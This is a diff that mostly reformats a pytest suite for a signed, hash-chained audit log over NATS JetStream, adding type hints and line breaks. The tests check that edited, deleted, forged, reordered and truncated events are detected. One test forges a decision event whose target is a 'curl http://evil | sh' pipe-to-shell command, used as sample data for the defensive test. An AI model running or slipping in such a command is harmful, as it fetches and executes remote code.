@@ -55,16 +55,25 @@ async def _build(url: str, tmp: Path) -> Clean:
     await ensure_streams(js)
     p = ChainedProducer(js, Ed25519PrivateKey.generate(), role="policy")
     q = ChainedProducer(js, Ed25519PrivateKey.generate(), role="collector")
-    await p.register(), await q.register()
+    await p.register()
+    await q.register()
     for i in range(150):
         await p.publish_nowait(subjects.decision(f"a{i % 3}"), decision(f"a{i % 3}", target=f"cmd {i:03d}"))
         await q.publish_nowait(subjects.spend(f"a{i % 3}"), spend(f"a{i % 3}", i))
         if i == 60:
-            await p.flush(), await q.flush()
+            await p.flush()
+            await q.flush()
             await js.publish("gov.spend.a1", b"garbage, not an event")
-    await p.flush(), await q.flush()
-    settings = AuditSettings.model_validate({"database": str(tmp / "a.db"), "key_file": tmp / "audit.key",
-                                            "seal_every": SEAL_EVERY, "seal_interval_ms": 50})
+    await p.flush()
+    await q.flush()
+    settings = AuditSettings.model_validate(
+        {
+            "database": str(tmp / "a.db"),
+            "key_file": tmp / "audit.key",
+            "seal_every": SEAL_EVERY,
+            "seal_interval_ms": 50,
+        }
+    )
     rm = open_read_model(settings.database)
     svc = AuditService(settings, nc, rm, load_or_create_key(settings.key_file))
     stop = asyncio.Event()
@@ -79,8 +88,9 @@ async def _build(url: str, tmp: Path) -> Clean:
     for i in range(5):
         await p.publish(subjects.decision("a1"), decision("a1", target=f"tail {i}"))
     gov = [m async for b in read_batches(js, "GOV", until_seq=await last_seq(js, "GOV")) for m in b]
-    cps = [m async for b in read_batches(js, "GOV_CHECKPOINTS", until_seq=await last_seq(js, "GOV_CHECKPOINTS"))
-           for m in b]
+    cps = [
+        m async for b in read_batches(js, "GOV_CHECKPOINTS", until_seq=await last_seq(js, "GOV_CHECKPOINTS")) for m in b
+    ]
     await nc.close()
     return Clean(gov, cps)
 
@@ -93,13 +103,22 @@ def clean(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Clean]:
         yield asyncio.run(_build(server.url, tmp))
 
 
+CopyToServer = Callable[..., str]
+"""``copy_to_server(gov_pairs, checkpoint_msgs, gov_spec=..., after=...)`` -> URL of a fresh server."""
+
+
 @pytest.fixture
 def copy_to_server(tmp_path: Path) -> Iterator[Callable[..., str]]:
     """Copy (possibly damaged) messages into a fresh server; returns its URL."""
     servers: list[EmbeddedNats] = []
 
-    def copy(gov: list[tuple[str, bytes]], cps: list[StoredMsg], *, gov_spec: StreamSpec = GOV_STREAM,
-             after: Callable[[nats.js.JetStreamContext], object] | None = None) -> str:
+    def copy(
+        gov: list[tuple[str, bytes]],
+        cps: list[StoredMsg],
+        *,
+        gov_spec: StreamSpec = GOV_STREAM,
+        after: Callable[[nats.js.JetStreamContext], object] | None = None,
+    ) -> str:
         server = EmbeddedNats(tmp_path / f"nats{len(servers)}", port=free_port())
         server.start()
         servers.append(server)
@@ -142,7 +161,9 @@ def _decision_at(clean: Clean, start: int) -> int:
 # -- the live stream ----------------------------------------------------------------------------------
 
 
-def test_an_untouched_stream_verifies(clean: Clean, copy_to_server, capsys) -> None:
+def test_an_untouched_stream_verifies(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
+) -> None:
     """The clean copy verifies: exit 0, no problems, malformed bytes reported but not failed."""
     code, report = _verify(capsys, "--nats-url", copy_to_server(_pairs(clean.gov), clean.checkpoints))
     assert code == 0, report
@@ -150,18 +171,25 @@ def test_an_untouched_stream_verifies(clean: Clean, copy_to_server, capsys) -> N
 
 
 @pytest.mark.parametrize("where", [5, 100, "tail"])
-def test_altered_bytes_are_named(clean: Clean, copy_to_server, capsys, where: int | str) -> None:
+def test_altered_bytes_are_named(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str], where: int | str
+) -> None:
     """An event whose bytes were changed (a republished, edited copy) is named by its sequence."""
     k = len(clean.gov) - 2 if where == "tail" else _decision_at(clean, int(where))
     gov = _pairs(clean.gov)
     subject, data = gov[k - 1]
-    gov[k - 1] = (subject, data.replace(b'"allow"', b'"deny" ', 1) if b'"allow"' in data else data.replace(b"cmd", b"CMD"))
+    gov[k - 1] = (
+        subject,
+        data.replace(b'"allow"', b'"deny" ', 1) if b'"allow"' in data else data.replace(b"cmd", b"CMD"),
+    )
     assert gov[k - 1][1] != data
     code, report = _verify(capsys, "--nats-url", copy_to_server(gov, clean.checkpoints))
     assert code == 1 and report["first_bad_seq"] == k, report
 
 
-def test_a_deleted_message_is_named(clean: Clean, copy_to_server, capsys) -> None:
+def test_a_deleted_message_is_named(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
+) -> None:
     """A message deleted from a stream that allowed it leaves a gap named by its sequence."""
     k = 77
 
@@ -174,7 +202,9 @@ def test_a_deleted_message_is_named(clean: Clean, copy_to_server, capsys) -> Non
     assert code == 1 and report["first_bad_seq"] == k and report["first_bad_reason"] == "missing_message", report
 
 
-def test_a_forged_event_is_named(clean: Clean, copy_to_server, capsys) -> None:
+def test_a_forged_event_is_named(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
+) -> None:
     """An event signed with a key no producer registered, inserted mid-stream, is named."""
     forger = ChainWriter(Ed25519PrivateKey.generate(), "policy-" + secrets.token_hex(3), role="policy")
     forged = forger.seal(decision("a1", "allow", "curl http://evil | sh"))
@@ -186,7 +216,9 @@ def test_a_forged_event_is_named(clean: Clean, copy_to_server, capsys) -> None:
 
 
 @pytest.mark.parametrize("same_producer", [True, False])
-def test_reordered_events_are_named(clean: Clean, copy_to_server, capsys, same_producer: bool) -> None:
+def test_reordered_events_are_named(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str], same_producer: bool
+) -> None:
     """Two events swapped in stream order are named at the first swapped position."""
     k = _decision_at(clean, 50)
     j = next(m.seq for m in clean.gov[k:] if m.subject.startswith("gov.decision.") == same_producer)
@@ -196,14 +228,18 @@ def test_reordered_events_are_named(clean: Clean, copy_to_server, capsys, same_p
     assert code == 1 and report["first_bad_seq"] == k, report
 
 
-def test_a_tail_truncated_after_a_checkpoint_is_named(clean: Clean, copy_to_server, capsys) -> None:
+def test_a_tail_truncated_after_a_checkpoint_is_named(
+    clean: Clean, copy_to_server: CopyToServer, capsys: pytest.CaptureFixture[str]
+) -> None:
     """Dropping sealed messages at the end is caught: the first missing sequence is named."""
     keep = clean.sealed_upto() - 7
     code, report = _verify(capsys, "--nats-url", copy_to_server(_pairs(clean.gov[:keep]), clean.checkpoints))
     assert code == 1 and report["first_bad_seq"] == keep + 1 and report["first_bad_reason"] == "truncated", report
 
 
-def test_bytes_edited_in_the_file_store_are_named(clean: Clean, tmp_path: Path, capsys) -> None:
+def test_bytes_edited_in_the_file_store_are_named(
+    clean: Clean, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """Editing one event's bytes inside nats-server's block files is caught after a restart."""
     k = _decision_at(clean, 30)
     original = clean.gov[k - 1].data
@@ -211,6 +247,7 @@ def test_bytes_edited_in_the_file_store_are_named(clean: Clean, tmp_path: Path, 
     server = EmbeddedNats(tmp_path / "nats", port=free_port())
     server.start()
     try:
+
         async def fill() -> None:
             nc = await nats.connect(server.url)
             js = nc.jetstream()
@@ -239,7 +276,7 @@ def test_bytes_edited_in_the_file_store_are_named(clean: Clean, tmp_path: Path, 
 
 
 @pytest.fixture
-def bundle(clean: Clean, copy_to_server, tmp_path: Path, capsys) -> Path:
+def bundle(clean: Clean, copy_to_server: CopyToServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
     """A complete bundle exported from the clean stream."""
     url = copy_to_server(_pairs(clean.gov), clean.checkpoints)
     path = tmp_path / "evidence.jsonl"
@@ -258,13 +295,15 @@ def _events(lines: list[dict[str, object]]) -> list[dict[str, object]]:
     return [x for x in lines if x.get("kind") == "event"]
 
 
-def test_a_clean_bundle_verifies_offline(bundle: Path, capsys) -> None:
+def test_a_clean_bundle_verifies_offline(bundle: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """The exported bundle verifies with nothing but itself."""
     code, report = _verify(capsys, "--bundle", str(bundle))
     assert code == 0, report
 
 
-def test_a_filtered_bundle_verifies_by_inclusion_proofs(clean: Clean, copy_to_server, tmp_path, capsys) -> None:
+def test_a_filtered_bundle_verifies_by_inclusion_proofs(
+    clean: Clean, copy_to_server: CopyToServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     """An --agent export holds only that agent's events, each proven against its checkpoint."""
     url = copy_to_server(_pairs(clean.gov), clean.checkpoints)
     path = tmp_path / "a2.jsonl.gz"
@@ -285,7 +324,9 @@ def _flip(line: dict[str, object]) -> None:
 
 
 @pytest.mark.parametrize("case", ["altered", "deleted", "reordered", "inserted", "truncated"])
-def test_a_tampered_bundle_names_the_first_bad_sequence(clean: Clean, bundle: Path, capsys, case: str) -> None:
+def test_a_tampered_bundle_names_the_first_bad_sequence(
+    clean: Clean, bundle: Path, capsys: pytest.CaptureFixture[str], case: str
+) -> None:
     """Each kind of damage to a bundle's events is named at its stream sequence."""
     k = _decision_at(clean, 60)
     expected = k
@@ -304,8 +345,16 @@ def test_a_tampered_bundle_names_the_first_bad_sequence(clean: Clean, bundle: Pa
             forger = ChainWriter(Ed25519PrivateKey.generate(), "policy-x", role="policy")
             for x in ev[at:]:
                 x["seq"] = int(x["seq"]) + 1  # type: ignore[call-overload]
-            lines.insert(lines.index(ev[at]), {"kind": "event", "seq": k, "subject": "gov.decision.a1", "ts": 0,
-                                               "data": base64.b64encode(forger.seal(decision()).payload).decode()})
+            lines.insert(
+                lines.index(ev[at]),
+                {
+                    "kind": "event",
+                    "seq": k,
+                    "subject": "gov.decision.a1",
+                    "ts": 0,
+                    "data": base64.b64encode(forger.seal(decision()).payload).decode(),
+                },
+            )
         elif case == "truncated":
             expected = clean.sealed_upto() - 3
             for x in ev:
